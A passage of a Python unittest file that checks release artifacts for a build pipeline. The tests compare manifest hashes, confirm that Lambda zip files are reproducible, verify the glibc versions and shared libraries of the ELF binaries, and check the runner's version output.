            (dist / "a.bin").write_bytes(b"artifact")
            manifest = {"source_sha256": release.source_digest(), "artifacts": [
                {"file": "a.bin", "sha256": release.sha256_file(dist / "a.bin")}]}
            (dist / "manifest.json").write_text(json.dumps(manifest))
            self.assertTrue(release.is_current(dist))
            (dist / "a.bin").write_bytes(b"artifacT")
            self.assertFalse(release.is_current(dist), "a changed artifact passed as current")
            (dist / "a.bin").write_bytes(b"artifact")
            manifest["source_sha256"] = "0" * 64
            (dist / "manifest.json").write_text(json.dumps(manifest))
            self.assertFalse(release.is_current(dist), "other sources passed as current")

    def test_lambda_zips_are_reproducible(self) -> None:
        with tempfile.TemporaryDirectory() as tmp:
            binary = Path(tmp) / "bin"
            binary.write_bytes(os.urandom(4096))
            release.write_lambda_zip(binary, Path(tmp) / "a.zip")
            os.utime(binary, (1, 1))
            release.write_lambda_zip(binary, Path(tmp) / "b.zip")
            self.assertEqual((Path(tmp) / "a.zip").read_bytes(), (Path(tmp) / "b.zip").read_bytes())
            with zipfile.ZipFile(Path(tmp) / "a.zip") as archive:
                self.assertEqual(archive.read("bootstrap"), binary.read_bytes())
                self.assertEqual(archive.getinfo("bootstrap").external_attr >> 16, 0o100755)


class ReleaseOutput(unittest.TestCase):
    """What `make release` wrote: checked without a container, by reading the binaries."""

    def test_sums_and_manifest_agree_with_the_files(self) -> None:
        dist = real_dist()
        manifest = manifest_of(dist)
        self.assertEqual({(a["role"], a["arch"]) for a in manifest["artifacts"]},
                         {("report-processor", "arm64"), ("pipeline-gate", "arm64"), ("runner", "x86_64"),
                          ("runner", "arm64")})
        sums = dict(reversed(line.split("  ", 1)) for line in (dist / "SHA256SUMS").read_text().splitlines())
        for art in manifest["artifacts"]:
            path = dist / art["file"]
            self.assertEqual(release.sha256_file(path), art["sha256"], art["file"])
            self.assertEqual(sums[art["file"]], art["sha256"])
            self.assertEqual(path.stat().st_size, art["size"])
        self.assertRegex(manifest["source_sha256"], r"^[0-9a-f]{64}$")

    def test_binaries_run_on_every_supported_glibc(self) -> None:
        dist = real_dist()
        for art in manifest_of(dist)["artifacts"]:
            with self.subTest(file=art["file"]), tempfile.TemporaryDirectory() as tmp:
                path = dist / art["file"]
                if art["file"].endswith(".zip"):
                    with zipfile.ZipFile(path) as archive:
                        self.assertEqual(archive.namelist(), ["bootstrap"])
                        self.assertEqual(archive.getinfo("bootstrap").external_attr >> 16 & 0o777, 0o755)
                        path = Path(tmp) / "bootstrap"
                        path.write_bytes(archive.read("bootstrap"))
                facts = release.elf_facts(path)
                self.assertEqual(facts["machine"], release.ELF_MACHINE[art["arch"]])
                glibc = tuple(int(p) for p in (facts["glibc"] or "0").split("."))
                self.assertLessEqual(glibc, (2, 17), f"needs GLIBC_{facts['glibc']}; Amazon Linux 2 has 2.26")
                self.assertTrue(set(facts["needed"]) <= {"libc.so.6", "libm.so.6", "libdl.so.2", "libpthread.so.0",
                                                         "librt.so.1", "libgcc_s.so.1", "ld-linux-aarch64.so.1",
                                                         "ld-linux-x86-64.so.2"}, facts["needed"])

    def test_the_runner_says_its_version_and_commit(self) -> None:
        dist = real_dist()
        manifest = manifest_of(dist)
        (runner,) = [a for a in manifest["artifacts"] if (a["role"], a["arch"]) == ("runner", "x86_64")]
        out = subprocess.run([str(dist / runner["file"]), "--version"], check=True, capture_output=True, text=True)
        self.assertEqual(out.stdout.strip(), f"scangate {manifest['version']} (commit {manifest['commit']})")


if __name__ == "__main__":

    result = unittest.main(exit=False, verbosity=2).result
    failed = len(result.failures) + len(result.errors)
    print(f"deploy tests: {result.testsRun - failed - len(result.skipped)} passed, {failed} failed")
    sys.exit(1 if failed else 0)
